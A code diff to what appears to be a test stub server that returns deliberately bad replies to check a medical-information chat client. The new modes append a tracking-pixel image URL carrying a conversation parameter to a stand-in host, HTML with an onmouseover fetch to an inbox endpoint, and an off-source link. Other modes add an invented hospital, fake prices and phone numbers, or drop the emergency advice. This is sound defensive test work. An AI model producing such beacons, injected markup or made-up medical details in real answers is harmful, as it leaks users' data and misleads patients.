@@ -9,6 +9,11 @@ client runs end to end. The requested model name picks the behaviour:
     fake-phone      adds a phone number
     fake-price      adds a price
     drop-emergency  answers without the emergency instruction
+    foreign-link    adds a link to a domain no source of the reply has
+    image           adds a markdown image (the browser would fetch it unasked)
+    html            adds raw markup with an event handler
+    invent-hospital-zh  adds a made-up hospital in Chinese
+    price-in-words  adds a price spelled out in words
     slow            waits longer than the client's timeout
     slow-stream     sends a first chunk, then stalls
     steady          answers like good, after 0.8 s
@@ -34,6 +39,16 @@ def answer_for(model: str, draft: str) -> str:
         return draft + "\n\nCall the department on +86 21 5555 0199 to book."
     if model == "fake-price":
         return draft + "\n\nTreatment costs about USD 30,000."
+    if model == "foreign-link":
+        return draft + "\n\nMore details: [patient guide](https://medical-tourism-deals.example/ruijin)"
+    if model == "image":
+        return draft + "\n\n![map](https://tracker.example/pixel.png?c=conversation)"
+    if model == "html":
+        return draft + '\n\n<div onmouseover="fetch(\'/api/v1/inbox\')">Hover for the price list</div>'
+    if model == "invent-hospital-zh":
+        return draft + "\n\n也可以考虑上海国际友好康复医院，口碑很好。"
+    if model == "price-in-words":
+        return draft + "\n\nExpect to pay around thirty thousand US dollars for the whole treatment."
     if model == "drop-emergency":
         return "Please rest and drink water; you will feel better soon."
     if model == "empty":
